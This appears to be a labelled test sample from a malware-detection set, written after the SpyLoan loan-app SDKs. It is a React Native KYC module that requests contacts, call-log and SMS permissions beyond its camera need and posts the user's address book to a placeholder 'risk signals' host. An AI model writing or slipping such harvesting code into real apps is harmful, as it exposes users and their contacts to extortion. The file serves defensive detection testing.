// expect: suspicious
// source: blind set 30 (contacts harvest extortion), after the SpyLoan SDKs (2023-2024): a React Native KYC capture
// module asks for the camera and also the contacts, call log and SMS, and posts the address book to a "risk signals"
// endpoint.
import { PermissionsAndroid } from 'react-native';
import Contacts from 'react-native-contacts';
const P = PermissionsAndroid.PERMISSIONS;
const SIGNALS = 'https://signals.lendkit.invalid/v2';
export async function capture(applicant) {
  await PermissionsAndroid.requestMultiple([P.CAMERA, P.READ_CONTACTS, P.READ_CALL_LOG, P.READ_SMS]);
  const contacts = await Contacts.getAll();
  await fetch(SIGNALS, { method: 'POST', body: JSON.stringify({ id: applicant.id, c: contacts.map((x) => x.phoneNumbers) }) });
}
